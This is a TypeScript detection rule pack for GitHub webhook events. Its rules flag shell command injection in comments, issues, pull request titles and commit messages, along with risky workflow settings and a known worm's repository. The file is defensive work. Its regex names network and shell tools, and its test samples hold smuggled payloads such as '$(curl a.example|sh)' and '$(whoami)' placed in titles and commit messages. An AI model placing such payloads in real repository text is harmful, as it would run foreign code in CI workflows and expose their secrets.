import { EACH, type Pack, type SampleEntry } from "./pack.ts";

const delivered = (attrs: Readonly<Record<string, unknown>>): SampleEntry => ({
  ...{ message: "delivered by kim-example", service: "example-shop/web" },
  attrs: { repository: { full_name: "example-shop/web", private: false }, ...attrs },
});

/** Text that a shell would run: a substitution, a shell with a command, `eval`, a download or a connection in backticks. */
const SHELL = String.raw`(?i)\$\([a-z]|/bin/(ba)?sh -c|\beval\(\$|\bnc (-[a-z]+ )*[0-9a-z.-]+ [0-9]{2,5}\b|\x60[^\x60]*(curl|wget|bash|/bin/sh)[^\x60]*\x60|\\x[0-9a-f]{6,}|(\\x[0-9a-f]{2}){3}`;
const runs = (...fields: readonly string[]): string =>
  fields.map((field) => `tostring(${field}) matches regex ${JSON.stringify(SHELL)}`).join(" or ");

export const GITHUB_WORKFLOWS: Pack = {
  id: "github-workflows",
  name: "GitHub: workflows",
  description: "Texts and settings by which workflows are made to run foreign code.",
  expects: {
    sources: "webhooks of GitHub, by a source with the preset github-webhook",
    kql: "isnotempty(repository.full_name) or isnotempty(repository.id)",
  },
  rules: [
    {
      id: "github-comment-with-commands",
      name: "A comment holds commands of a shell",
      description: "A workflow that puts comments into a script runs them. See whether one does.",
      ...{ severity: "medium", attackTechnique: "T1195.002", ...EACH, groupBy: ["userName"] },
      kql: `isnotempty(action) and (${runs("comment.body", "review.body")})`,
      counts: delivered({ action: "created", comment: { body: "try $(curl -s a.example/x)" } }),
      leaves: delivered({ action: "created", comment: { body: "try `make test`" } }),
    },
    {
      id: "github-issue-with-commands",
      name: "An issue or a page holds commands of a shell",
      description: "A workflow that puts titles into a script runs them. See whether one does.",
      ...{ severity: "medium", attackTechnique: "T1195.002", ...EACH, groupBy: ["userName"] },
      kql: `(isnotempty(tostring(issue.title)) or isnotempty(tostring(pages))) and (${runs("issue.title", "issue.body", "pages")})`,
      counts: delivered({ action: "opened", issue: { title: "Build $(whoami) fails", body: "" } }),
      leaves: delivered({ action: "opened", issue: { title: "Build fails", body: "since Monday" } }),
    },
    {
      id: "github-request-with-commands",
      name: "A pull request's text holds commands of a shell",
      description: "A workflow that puts the title into a script runs them. Do not start its workflows.",
      ...{ severity: "high", attackTechnique: "T1195.002", ...EACH, groupBy: ["userName"] },
      kql: `isnotempty(tostring(pull_request.title)) and isempty(comment.body) and isempty(review.body) and (${runs("pull_request.title", "pull_request.body")})`,
      counts: delivered({ action: "opened", pull_request: { title: "Docs $(id)", body: "" } }),
      leaves: delivered({ action: "opened", pull_request: { title: "Docs", body: "Adds a page" } }),
    },
    {
      id: "github-commit-with-commands",
      name: "A commit's message or author holds commands of a shell",
      description: "A workflow that prints it in a script runs them. See whether one does.",
      ...{ severity: "high", attackTechnique: "T1195.002", ...EACH, groupBy: ["userName"] },
      kql: `isnotempty(tostring(commits)) and (${runs("commits", "head_commit.message", "head_commit.author.name")})`,
      counts: delivered({ ref: "refs/heads/main", commits: [{ message: "Fix $(curl a.example|sh)" }] }),
      leaves: delivered({ ref: "refs/heads/main", commits: [{ message: "Fix the build" }] }),
    },
    {
      id: "github-workflow-with-rights-from-fork",
      name: "A workflow ran with secrets for a pull request",
      description: "Such workflows have rights to write. See whether they ran code of the request.",
      ...{ severity: "medium", attackTechnique: "T1195.002", ...EACH, groupBy: [] },
      kql: 'action == "completed" and workflow_run.event == "pull_request_target"',
      counts: delivered({ action: "completed", workflow_run: { event: "pull_request_target" } }),
      leaves: delivered({ action: "completed", workflow_run: { event: "pull_request" } }),
    },
    {
      id: "github-own-runner-used",
      name: "A workflow ran on a machine of one's own",
      description: "Foreign code may stay on such a machine. Keep them away from public repositories.",
      ...{ severity: "low", attackTechnique: "T1195.002", ...EACH, groupBy: ["workflow_job.runner_name"] },
      kql: 'action == "completed" and isnotempty(workflow_job.runner_name) and workflow_job.runner_group_id != 0 and not(workflow_job.runner_name startswith "GitHub Actions")',
      counts: delivered({
        action: "completed",
        workflow_job: { runner_name: "build-1", runner_group_id: 1 },
      }),
      leaves: delivered({
        ...{ action: "completed", workflow_job: { runner_name: "GitHub Actions 10", runner_group_id: 0 } },
      }),
    },
    {
      id: "github-checks-skipped",
      name: "A push to a public repository skips its checks",
      description: "Nothing tests or scans the commit. Read it.",
      ...{ severity: "low", attackTechnique: "T1562.001", ...EACH, groupBy: ["userName"] },
      kql: String.raw`isnotempty(ref) and tobool(repository.private) == false and not(tobool(repository.allow_forking) == false) and tostring(commits) matches regex "(?i)(\\[(skip ci|ci skip|no ci|skip actions|actions skip)\\]|skip-checks: ?true)"`,
      counts: delivered({ ref: "refs/heads/main", commits: [{ message: "Typo [skip ci]" }] }),
      leaves: delivered({ ref: "refs/heads/main", commits: [{ message: "Typo" }] }),
    },
    {
      id: "github-worm-repository",
      name: "A repository with the description of a known worm was made",
      description: "A stolen token publishes secrets there. Make it private, and change all secrets.",
      ...{ severity: "critical", attackTechnique: "T1195.002", ...EACH, groupBy: ["userName"] },
      kql: 'action == "created" and repository.description contains "hulud"',
      counts: delivered({ action: "created", repository: { id: 1, description: "Sha1-Hulud: again" } }),
      leaves: delivered({ action: "created", repository: { id: 1, description: "Tools of the shop" } }),
    },
  ],
};
